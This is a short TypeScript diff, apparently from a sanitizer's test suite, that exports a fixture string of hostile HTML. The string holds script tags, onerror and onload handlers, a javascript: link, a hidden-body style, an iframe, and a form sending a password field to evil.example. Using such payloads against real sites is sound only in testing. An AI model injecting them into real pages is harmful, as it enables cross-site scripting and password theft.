@@ -19,7 +19,7 @@ const failed = (name: string, error: (now: number) => ErrorFacts): State => ({
 });
 
 /** Everything a post must not bring: each part would leave a mark in the page or fetch something. */
-const hostilePost = `<p>Mail is <b>slow</b>.</p><script>window.planted=1</script><img src="https://evil.example/p.png" alt="a chart"
+export const hostilePost = `<p>Mail is <b>slow</b>.</p><script>window.planted=1</script><img src="https://evil.example/p.png" alt="a chart"
   onerror="window.planted=2"><svg onload="window.planted=3"><script>window.planted=4</script></svg>
   <style>body{display:none}</style><a href="javascript:window.planted=5">bad link</a> <a href="https://example.com/w">good link</a>
   <iframe src="https://evil.example"></iframe><form action="https://evil.example"><input name="password"></form>
